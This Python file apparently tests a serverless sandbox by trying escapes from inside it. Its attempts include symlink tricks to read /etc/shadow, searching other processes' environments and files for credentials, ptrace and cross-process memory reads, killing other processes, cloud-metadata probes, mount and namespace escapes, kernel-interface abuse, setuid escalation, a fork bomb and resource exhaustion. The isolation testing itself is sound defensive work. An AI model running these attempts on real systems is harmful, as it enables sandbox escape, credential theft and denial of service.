"""What a hostile function tries: each attempt returns what it got, or raises why it got nothing.

The same file is the handler of a deployed function (`attempts.handler`) and a program that runs one attempt without any
walls (`python3 attempts.py '{"attempt": ...}'`), which shows that the attempt would succeed if its wall were missing.
`python3 attempts.py --list` prints the names, each with who runs it without walls: `root`, `nobody`, or why nobody does.
Limits and targets come with the event; nothing here depends on the machine.
"""

import ctypes
import ctypes.util
import errno
import glob
import hashlib
import json
import os
import platform
import re
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request

LIBC = ctypes.CDLL(None, use_errno=True)
# Numbers on x86_64, on aarch64.
NUMBERS = {
    "add_key": (248, 217), "bpf": (321, 280), "clone": (56, 220), "clone3": (435, 435), "delete_module": (176, 106),
    "finit_module": (313, 273), "fsopen": (430, 430), "io_uring_setup": (425, 425), "kexec_load": (246, 104),
    "mount": (165, 40), "move_mount": (429, 429), "open_by_handle_at": (304, 265), "open_tree": (428, 428),
    "perf_event_open": (298, 241), "pidfd_getfd": (438, 438), "pidfd_open": (434, 434), "pivot_root": (155, 41),
    "process_vm_readv": (310, 270), "ptrace": (101, 117), "quotactl": (179, 60), "reboot": (169, 142),
    "setns": (308, 268), "swapon": (167, 224), "syslog": (103, 116), "umount2": (166, 39), "unshare": (272, 97),
    "userfaultfd": (323, 282), "clock_settime": (227, 112), "iopl": (172, None), "kcmp": (312, 272),
}
NEW_MOUNTS, NEW_USERS, NEW_NAMES, NEW_NETWORK = 0x00020000, 0x10000000, 0x04000000, 0x40000000
TRIED_MAX = 4_000  # processes and files looked at in one attempt
CONNECT_S = 0.5

ATTEMPTS = {}


class Refused(Exception):
    """Nothing was got, and no system call says why."""


def attempt(control):
    def register(function):
        ATTEMPTS[function.__name__] = (function, control)
        return function
    return register


def call(name, *arguments):
    number = NUMBERS[name][0 if platform.machine() == "x86_64" else 1]
    if number is None:
        raise Refused(f"{platform.machine()} has no {name}")
    result = LIBC.syscall(ctypes.c_long(number), *[
        ctypes.c_long(one) if isinstance(one, int) else one for one in arguments
    ])
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, f"{name}: {os.strerror(code)}")
    return result


def reaches(name, *arguments):
    """A call with arguments that no kernel accepts: any answer but a refusal means that a privilege was there."""
    try:
        call(name, *arguments)
    except OSError as error:
        if error.errno in (errno.EPERM, errno.EACCES, errno.ENOSYS):
            raise
        return f"{name} was looked at: {error.strerror}"
    return f"{name} was done"


def in_child(work):
    """Runs `work` in a process of its own, so that what it changes ends with it."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reader)
        outcome = run(lambda _: work(), {})
        os.write(writer, json.dumps(outcome).encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as stream:
        said = stream.read()
    os.waitpid(pid, 0)
    outcome = json.loads(said) if said else {"outcome": "refused", "detail": "the process was ended"}
    if outcome["outcome"] == "broken":
        raise RuntimeError(outcome["detail"])
    if outcome["outcome"] != "succeeded":
        raise Refused(outcome["detail"])
    return outcome["detail"]


def first(tries):
    """The first of several ways that succeeds; all reasons, if none does."""
    reasons = []
    for name, way in tries:
        try:
            return f"{name}: {way()}"
        except (OSError, Refused) as error:
            reasons.append(f"{name}: {error}")
    shown = "; ".join(sorted(set(reasons))[:4])
    raise Refused(shown if reasons else "there is nothing to try")


def read(path, size=4096):
    with open(path, "rb") as file:
        return file.read(size)


def something(path, size=64):
    """What stands in a file: a file that was covered is empty."""
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        data = os.read(descriptor, size)
    finally:
        os.close(descriptor)
    if not data:
        raise Refused("it is empty")
    return f"{len(data)} bytes"


def writable(path):
    """Opens for writing and writes nothing."""
    os.close(os.open(path, os.O_WRONLY))
    return f"{path} can be written"


def processes():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()][:TRIED_MAX]


def others(targets):
    """Processes that are not this one nor its own children: the targets, and whoever is seen."""
    seen = targets["pids"] if targets.get("unwalled") else targets["pids"] + [1] + processes()
    own = {os.getpid()}
    return [pid for pid in dict.fromkeys(seen) if pid not in own]


# Files

@attempt("root")
def files_of_another_sandbox(t):
    places = ["/tmp", *(f"/proc/{pid}/{link}" for pid in others(t) for link in ("root/tmp", "cwd"))]
    def look(place):
        found = [path for path in glob.glob(f"{place}/*") if t["mark"] in os.path.basename(path)]
        if not found:
            os.listdir(place)
            raise Refused("it is not there")
        return read(found[0]).decode(errors="replace")
    return first((place, lambda place=place: look(place)) for place in places)


@attempt("root")
def files_of_the_host(t):
    return first((path, lambda path=path: something(path)) for path in t["host_files"])


@attempt("root")
def state_of_nigh(t):
    return first((path, lambda path=path: something(path)) for path in t["state_files"])


@attempt("root")
def state_of_nigh_by_a_handle(t):
    handle = struct.pack("IiII", 8, 1, 2, 0)  # inode 2: the root of most file systems
    for place in ("/usr", "/etc", "/tmp", "/var/task", "/"):
        try:
            folder = os.open(place, os.O_RDONLY)
        except OSError:
            continue
        try:
            return f"{place}: descriptor {call('open_by_handle_at', folder, ctypes.c_char_p(handle), os.O_RDONLY)}"
        except OSError as error:
            last = error
        finally:
            os.close(folder)
    if last.errno not in (errno.EPERM, errno.EACCES, errno.ENOSYS):
        return f"the handle was looked at: {last.strerror}"
    raise last


@attempt("root")
def credentials_of_the_store(t):
    wanted, looked = t["secret_sha256"], 0
    roots = t["search"] if t.get("unwalled") else ["/tmp", "/var", "/etc", "/run", "/root", "/home", "/dev/shm", "/opt"]
    texts = [f"/proc/{pid}/{name}" for pid in others(t) for name in ("environ", "cmdline")]
    for root in roots:
        for folder, _, names in os.walk(root):
            # The interpreter's own files are the same for everyone.
            texts += [os.path.join(folder, name) for name in names if not name.endswith((".py", ".pyc", ".so", ".h"))]
    for path in texts[:TRIED_MAX]:
        try:
            text = read(path, 1 << 20) if os.path.isfile(path) else b""
        except OSError:
            continue
        looked += 1
        for token in re.findall(rb"[A-Za-z0-9+/=_-]{16,128}", text):
            if hashlib.sha256(token).hexdigest() == wanted:
                return f"a secret key stands in {path}"
    raise Refused(f"in none of {looked} files that can be read")


@attempt("root")
def writing_to_the_code(t):
    folder = t["code"]
    def create():
        path = os.path.join(folder, "planted.py")
        with open(path, "w") as file:
            file.write("planted")
        os.unlink(path)
        return "a file was made"
    own = os.path.join(folder, "attempts.py")
    return first([
        ("create", create), ("open", lambda: writable(own)), ("chmod", lambda: os.chmod(folder, 0o777)),
        ("rename", lambda: os.rename(own, own + ".old")), ("remove", lambda: os.unlink(own)),
    ])


@attempt("root")
def writing_to_the_system(t):
    def create(folder):
        path = os.path.join(folder, "nigh-planted")
        with open(path, "w") as file:
            file.write("planted")
        os.unlink(path)
        return "a file was made"
    folders = t["folders"] if t.get("unwalled") else ["/", "/usr/bin", "/usr/lib", "/etc", "/var", "/dev", "/proc"]
    return first((folder, lambda folder=folder: create(folder)) for folder in folders)


@attempt("root")
def program_of_the_first_process(t):
    pid = t["pids"][0] if t.get("unwalled") else 1
    names = ("exe", "root", "environ", "mem", "maps", "fd/3", "cwd", "auxv")
    def look(name):
        path = f"/proc/{pid}/{name}"
        if name in ("root", "cwd", "exe", "fd/3"):
            return os.readlink(path)
        return something(path)
    ways = [(name, lambda name=name: look(name)) for name in names]
    if not t.get("unwalled"):
        ways += [(path, lambda path=path: writable(path)) for path in ("/proc/1/exe", "/nigh-sandbox")]
    return first(ways)


@attempt("root")
def symbolic_links_in_tmp(t):
    folder = tempfile.mkdtemp()
    def follow(target):
        link = os.path.join(folder, str(abs(hash(target))))
        os.symlink(target, link)
        return f"{something(link)} of {target}"
    targets = [*t["state_files"], *t["host_files"], *(f"/proc/{pid}/root/etc/shadow" for pid in others(t)),
               "/proc/self/root/../../etc/shadow", "../../../../../../etc/shadow"]
    try:
        return first((target, lambda target=target: follow(target)) for target in targets)
    finally:
        shutil.rmtree(folder)


@attempt("root")
def hard_links_in_tmp(t):
    folder = t["folders"][0] if t.get("unwalled") else "/tmp"
    targets = t["linked"] if t.get("unwalled") else [
        "/usr/bin/su", "/etc/passwd", os.path.join(t["code"], "attempts.py"), *t["state_files"]]
    def link(target):
        path = os.path.join(folder, "linked")
        os.link(target, path)
        try:
            return writable(path)
        finally:
            os.unlink(path)
    return first((target, lambda target=target: link(target)) for target in targets)


# Processes

@attempt("root")
def secrets_of_other_processes(t):
    for pid in others(t):
        try:
            if t["mark"].encode() in read(f"/proc/{pid}/environ", 1 << 16):
                return f"the environment of process {pid}"
        except OSError:
            continue
    raise Refused("in no environment that can be read")


@attempt("root")
def tracing_other_processes(t):
    attach, detach = 16, 17
    def trace(pid):
        call("ptrace", attach, pid, 0, 0)
        os.waitpid(pid, 0x40000000)
        call("ptrace", detach, pid, 0, 0)
        return "it was stopped and looked into"
    return first((f"process {pid}", lambda pid=pid: trace(pid)) for pid in others(t))


@attempt("root")
def memory_of_other_processes(t):
    def peek(pid):
        with open(f"/proc/{pid}/maps") as maps:
            start = int(maps.readline().split("-")[0], 16)
        buffer = ctypes.create_string_buffer(16)
        local = struct.pack("PN", ctypes.addressof(buffer), 16)
        remote = struct.pack("PN", start, 16)
        return f"{call('process_vm_readv', pid, ctypes.c_char_p(local), 1, ctypes.c_char_p(remote), 1, 0)} bytes"
    return first((f"process {pid}", lambda pid=pid: peek(pid)) for pid in others(t))


@attempt("root")
def descriptors_of_other_processes(t):
    def take(pid):
        return f"descriptor {call('pidfd_getfd', call('pidfd_open', pid, 0), 0, 0)}"
    return first((f"process {pid}", lambda pid=pid: take(pid)) for pid in others(t))


@attempt("root")
def signals_to_other_processes(t):
    """Whether the targets live on, the experiment sees."""
    sent = []
    for pid in others(t):
        try:
            os.kill(pid, signal.SIGKILL)
            sent.append(pid)
        except OSError:
            continue
    # Those that are killed need a moment to end, and must not be taken for living.
    if sent:
        time.sleep(0.5)
    raise Refused(f"{len(sent)} signals went out")


@attempt("root")
def more_of_the_processor(t):
    before = os.getpriority(os.PRIO_PROCESS, 0)
    def nicer():
        os.setpriority(os.PRIO_PROCESS, 0, before - 5)
        return "a higher priority"
    def real_time():
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
        return "real-time priority"
    return first([("nice", lambda: in_child(nicer)), ("real time", lambda: in_child(real_time))])


# Sockets

def reach(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as stream:
        stream.settimeout(CONNECT_S)
        stream.connect(address)
        return f"{address} answers"


@attempt("root")
def doors_of_the_host(t):
    return first((f"{host}:{port}", lambda host=host, port=port: reach((host, port))) for host, port in t["host_ports"])


@attempt("root")
def doors_of_another_sandbox(t):
    return first((f"{host}:{port}", lambda host=host, port=port: reach((host, port))) for host, port in t["other_ports"])


@attempt("root")
def metadata_of_the_cloud(t):
    addresses = t["metadata"] if t.get("unwalled") else [["169.254.169.254", 80], ["169.254.170.2", 80],
                                                        ["fd00:ec2::254", 80], ["metadata.google.internal", 80]]
    def ask(host, port):
        return reach((host, port), socket.AF_INET6 if ":" in host else socket.AF_INET)
    return first((host, lambda host=host, port=port: ask(host, port)) for host, port in addresses)


@attempt("root")
def addresses_outside(t):
    addresses = t["metadata"] if t.get("unwalled") else [["1.1.1.1", 53], ["8.8.8.8", 53], ["10.0.0.1", 80],
                                                        ["192.168.0.1", 80], ["172.17.0.1", 80]]
    return first((host, lambda host=host, port=port: reach((host, port))) for host, port in addresses)


@attempt("root")
def abstract_sockets(t):
    return first((name, lambda name=name: reach(b"\0" + name.encode(), socket.AF_UNIX)) for name in t["abstract"])


@attempt("root")
def sockets_by_path(t):
    return first((path, lambda path=path: reach(path, socket.AF_UNIX)) for path in t["socket_files"])


@attempt("root")
def the_data_door_unsigned(t):
    url = t["data_door"]
    try:
        with urllib.request.urlopen(f"{url}/", timeout=5) as answer:
            return f"buckets: {answer.read(200)}"
    except urllib.error.HTTPError as error:
        raise Refused(f"{error.code} {error.reason}") from error


@attempt("root")
def packets_past_the_stack(t):
    kinds = [("packet", socket.AF_PACKET, socket.SOCK_RAW), ("raw", socket.AF_INET, socket.SOCK_RAW)]
    def make(family, kind):
        socket.socket(family, kind, socket.IPPROTO_ICMP).close()
        return "a socket for any packet"
    return first((name, lambda family=family, kind=kind: make(family, kind)) for name, family, kind in kinds)


@attempt("root")
def sockets_that_no_namespace_bounds(t):
    kinds = [("vsock", 40), ("crypto", 38), ("bluetooth", 31), ("x25", 9), ("vmci", 28), ("can", 29)]
    def make(family):
        socket.socket(family, socket.SOCK_SEQPACKET if family == 38 else socket.SOCK_STREAM, 0).close()
        return "a socket"
    return first((name, lambda family=family: make(family)) for name, family in kinds)


@attempt("root")
def network_interfaces(t):
    def up():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
            import fcntl
            request = struct.pack("16sh14x", b"lo", 0x41)
            fcntl.ioctl(any_socket, 0x8914, request)
        return "an interface was changed"
    return up()


# Cgroups, namespaces, mounts

@attempt("root")
def cgroup_files(t):
    names = ("memory.limit_in_bytes", "memory.max", "pids.max", "cgroup.procs", "release_agent", "cgroup.kill")
    found = []
    for root in t["cgroups"]:
        for folder, folders, files in os.walk(root):
            found += [os.path.join(folder, name) for name in names if name in files]
            del folders[50:]
            if len(found) > 1000:
                break
    ways = [(path, lambda path=path: writable(path)) for path in found[:1000]]
    ways.append(("/sys/fs/cgroup", lambda: os.listdir("/sys/fs/cgroup") and "the tree is there"))
    return first(ways)


@attempt("nobody")
def a_user_namespace(t):
    def unshare():
        call("unshare", NEW_USERS)
        return "unshare made one"
    def clone():
        pid = call("clone", NEW_USERS | signal.SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        return "clone made one"
    def clone3():
        arguments = struct.pack("8Q", NEW_USERS, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
        pid = call("clone3", ctypes.c_char_p(arguments), len(arguments))
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        return "clone3 made one"
    return first([("unshare", lambda: in_child(unshare)), ("clone", clone), ("clone3", clone3)])


@attempt("root")
def other_namespaces(t):
    def unshare(flag):
        call("unshare", flag)
        return "a new one"
    kinds = [("mounts", NEW_MOUNTS), ("names", NEW_NAMES), ("network", NEW_NETWORK), ("processes", 0x20000000),
             ("ipc", 0x08000000), ("cgroups", 0x02000000), ("time", 0x80)]
    return first((name, lambda flag=flag: in_child(lambda: unshare(flag))) for name, flag in kinds)


@attempt("root")
def namespaces_of_other_processes(t):
    def enter(pid, kind):
        call("setns", os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
        return "entered"
    return first((f"{kind} of {pid}", lambda pid=pid, kind=kind: in_child(lambda: enter(pid, kind)))
                 for pid in others(t)[:200] for kind in ("mnt", "net", "user", "ipc", "uts"))


@attempt("root")
def mounts(t):
    flags = {"bind": 0x1000, "remount": 0x20 | 0x1000, "move": 0x2000}
    text = ctypes.c_char_p
    def alone():
        try:
            call("unshare", NEW_MOUNTS)
            call("mount", None, text(b"/"), None, 0x4000 | 0x40000, None)
        except OSError:
            if t.get("unwalled"):
                raise
    def over(work):
        alone()
        work()
        return "done"
    folder = tempfile.mkdtemp().encode()
    ways = [
        ("tmpfs", lambda: call("mount", text(b"none"), text(folder), text(b"tmpfs"), 0, None)),
        ("proc", lambda: call("mount", text(b"none"), text(folder), text(b"proc"), 0, None)),
        ("cgroup", lambda: call("mount", text(b"none"), text(folder), text(b"cgroup"), 0, text(b"memory"))),
        ("bind", lambda: call("mount", text(b"/usr"), text(folder), None, flags["bind"], None)),
        ("writable code", lambda: call("mount", None, text(b"/var/task"), None, flags["remount"], None)),
        ("unmount", lambda: call("umount2", text(b"/proc"), 2)),
        ("fsopen", lambda: call("fsopen", text(b"tmpfs"), 0)),
        ("open_tree", lambda: call("open_tree", -100, text(b"/"), 1)),
        ("pivot_root", lambda: call("pivot_root", text(b"/tmp"), text(b"/tmp"))),
    ]
    try:
        return first((name, lambda way=way: in_child(lambda: over(way))) for name, way in ways)
    finally:
        os.rmdir(folder)


@attempt("root")
def another_root(t):
    def leave():
        os.chroot("/usr")
        return "the root was changed"
    return in_child(leave)


# The kernel

@attempt("root")
def keys_of_the_kernel(t):
    text = ctypes.c_char_p
    return f"key {call('add_key', text(b'user'), text(b'nigh-probe'), text(b'x'), 1, -1)}"


@attempt("root")
def bpf(t):
    arguments = struct.pack("4I", 2, 4, 4, 1) + bytes(112)
    return f"a map: descriptor {call('bpf', 0, ctypes.c_char_p(arguments), len(arguments))}"


@attempt("root")
def perf_events(t):
    arguments = struct.pack("2IQ", 1, 128, 0) + bytes(112)  # PERF_TYPE_SOFTWARE, the processor's clock
    return f"descriptor {call('perf_event_open', ctypes.c_char_p(arguments), -1, 0, -1, 0)}"


@attempt("root")
def io_uring(t):
    return f"descriptor {call('io_uring_setup', 1, ctypes.create_string_buffer(120))}"


@attempt("root")
def page_faults_of_the_kernel(t):
    return f"descriptor {call('userfaultfd', 0)}"


@attempt("root")
def modules_and_other_kernels(t):
    return first([
        ("load", lambda: reaches("finit_module", -1, ctypes.c_char_p(b""), 0)),
        ("unload", lambda: reaches("delete_module", ctypes.c_char_p(b"nigh_absent"), 0)),
        ("kexec", lambda: reaches("kexec_load", 0, 0, None, 0xFFFF)),
        ("reboot", lambda: reaches("reboot", 1, 1, 1, None)),
        ("swap", lambda: reaches("swapon", ctypes.c_char_p(b"/nigh-absent"), 0)),
    ])


@attempt("it would set this machine's clock")
def the_clock(t):
    now = time.clock_gettime(time.CLOCK_REALTIME)
    at = struct.pack("qq", int(now), int(now % 1 * 1e9))
    call("clock_settime", 0, ctypes.c_char_p(at))
    return "the clock was set"


@attempt("root")
def log_of_the_kernel(t):
    buffer = ctypes.create_string_buffer(256)
    return first([
        ("syslog", lambda: f"{call('syslog', 3, buffer, 256)} bytes"),
        ("/dev/kmsg", lambda: something("/dev/kmsg", 8192)),
        ("/proc/kmsg", lambda: something("/proc/kmsg")),
    ])


@attempt("root")
def settings_of_the_kernel(t):
    return first((path, lambda path=path: writable(path)) for path in (
        "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches",
        "/proc/sys/kernel/hostname", "/proc/sys/net/ipv4/ip_forward", "/proc/irq/0/smp_affinity", "/sys/power/state",
        "/sys/kernel/uevent_helper"))


@attempt("root")
def name_of_the_machine(t):
    def rename():
        if t.get("unwalled"):
            call("unshare", NEW_NAMES)
        socket.sethostname("planted")
        return "it was changed"
    return in_child(rename)


@attempt("root")
def raw_devices(t):
    folder = t["folders"][0] if t.get("unwalled") else "/tmp"
    def make(kind, major, minor):
        path = os.path.join(folder, f"device-{major}-{minor}")
        os.mknod(path, kind | 0o600, os.makedev(major, minor))
        try:
            os.close(os.open(path, os.O_RDONLY))
            return f"{major}:{minor} can be read"
        finally:
            os.unlink(path)
    block, character = 0o060000, 0o020000
    ways = [(path, lambda path=path: os.close(os.open(path, os.O_RDONLY)) or "can be read") for path in (
        "/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kvm", "/dev/fuse",
        "/dev/loop-control", "/dev/net/tun", "/dev/kmsg")]
    ways += [(f"node {name}", lambda kind=kind, major=major, minor=minor: make(kind, major, minor))
             for name, kind, major, minor in (("memory", character, 1, 1), ("disk", block, 8, 0),
                                              ("disk", block, 254, 0), ("kmsg", character, 1, 11))]
    ways.append(("ports", lambda: reaches("iopl", 3)))
    return first(ways)


@attempt("root")
def memory_of_the_kernel(t):
    def symbols():
        for line in read("/proc/kallsyms", 4096).decode().splitlines()[5:30]:
            if int(line.split()[0], 16):
                return line
        raise Refused("all addresses are hidden")
    return first([("kcore", lambda: something("/proc/kcore")), ("kallsyms", symbols),
                  ("timer_list", lambda: something("/proc/timer_list"))])


# Privileges

@attempt("nobody")
def programs_with_set_uid(t):
    candidates = [path for name in ("su", "passwd", "chsh", "newgrp", "mount", "gpasswd", "chfn", "umount")
                  for path in (f"/usr/bin/{name}", f"/bin/{name}") if os.path.exists(path)]
    def start(path):
        if not os.stat(path).st_mode & 0o4000:
            raise Refused("it has no such bit")
        # It waits for a word, if it starts at all; its effective user is looked at meanwhile.
        process = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            for _ in range(200):
                status = read(f"/proc/{process.pid}/status").decode()
                if f"Name:\t{os.path.basename(path)}" in status:
                    break
                time.sleep(0.001)
            users = re.search(r"^Uid:\s+(\d+)\s+(\d+)", status, re.M)
            if users and users.group(2) != users.group(1):
                return f"it runs as {users.group(2)}"
            raise Refused("it runs as whoever started it")
        finally:
            process.stdin.close()
            try:
                process.kill()
            except OSError:
                pass  # it ends when it reads no word
            process.wait(timeout=10)
    return first((path, lambda path=path: start(path)) for path in candidates)


@attempt("root")
def becoming_somebody_else(t):
    # The raw calls, as a hostile program makes them; another user of the host than this one.
    target = 4242 if os.getuid() != 4242 else 4243
    def user(number):
        os.setresuid(number, number, number)
        return f"user {number}"
    def group(number):
        os.setgroups([number])
        return f"group {number}"
    return first([("root", lambda: in_child(lambda: user(0))), ("another user", lambda: in_child(lambda: user(target))),
                  ("a group", lambda: in_child(lambda: group(0)))])


# Exhaustion: the limits come with the event

@attempt("root")
def a_fork_bomb(t):
    made, limit = [], t["processes_max"]
    try:
        while len(made) <= limit:
            pid = os.fork()
            if pid == 0:
                signal.pause()
                os._exit(0)
            made.append(pid)
        return f"{len(made)} processes"
    finally:
        for pid in made:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)


def fill(folder, limit):
    path, chunk, written = os.path.join(folder, "filling"), bytes(1 << 20), 0
    try:
        with open(path, "wb", buffering=0) as file:
            while written <= limit:
                written += file.write(chunk)
        return f"{written} bytes in {folder}"
    finally:
        os.unlink(path)


@attempt("root")
def all_of_the_disk(t):
    return fill(t["folders"][0] if t.get("unwalled") else "/tmp", t["tmp_bytes"])


@attempt("root")
def all_of_shared_memory(t):
    return fill(t["folders"][0] if t.get("unwalled") else "/dev/shm", t["shared_bytes"])


@attempt("root")
def all_inodes(t):
    folder = tempfile.mkdtemp(dir=t["folders"][0] if t.get("unwalled") else "/tmp")
    made = 0
    try:
        while made <= t["files_max"]:
            os.close(os.open(os.path.join(folder, str(made)), os.O_CREAT | os.O_WRONLY))
            made += 1
        return f"{made} files"
    finally:
        shutil.rmtree(folder)


@attempt("root")
def all_of_the_memory(t):
    held, chunk = [], 16 << 20
    while len(held) * chunk <= t["memory_bytes"]:
        held.append(b"x" * chunk)
    return f"{len(held) * chunk} bytes"


@attempt("root")
def more_open_files(t):
    limit = t["open_files_max"]
    if not t.get("unwalled"):
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (limit * 2, limit * 2))
        except (OSError, ValueError):
            pass
    held = []
    try:
        while len(held) <= limit:
            held.append(os.open("/dev/null", os.O_RDONLY))
        return f"{len(held)} files"
    finally:
        for one in held:
            os.close(one)


def run(work, targets):
    try:
        return {"outcome": "succeeded", "detail": str(work(targets))}
    except (OSError, Refused, MemoryError) as error:
        return {"outcome": "refused", "detail": str(error) or type(error).__name__}
    except Exception as error:  # a mistake here must not pass for a wall
        return {"outcome": "broken", "detail": f"{type(error).__name__}: {error}"}


def victim(t):
    """Another sandbox, with things worth having, until it is told to end."""
    with open(f"/tmp/{t['mark']}", "w") as file:
        file.write(t["mark"])
    listener = socket.create_server(("127.0.0.1", t["port"]))
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind(b"\0" + t["abstract"].encode())
    abstract.listen()
    print("victim ready", flush=True)
    time.sleep(t["seconds"])
    listener.close()
    return {"outcome": "lived", "detail": ""}


def handler(event, context):
    if event["attempt"] == "victim":
        return victim(event)
    return run(ATTEMPTS[event["attempt"]][0], event)


if __name__ == "__main__":
    if sys.argv[1] == "--list":
        print(json.dumps([{"attempt": name, "control": control} for name, (_, control) in ATTEMPTS.items()]))
    else:
        told = json.loads(sys.argv[1])
        if "as" in told:
            os.setgroups([])
            os.setgid(told["as"])
            os.setuid(told["as"])
        print(json.dumps(handler(told, None)))
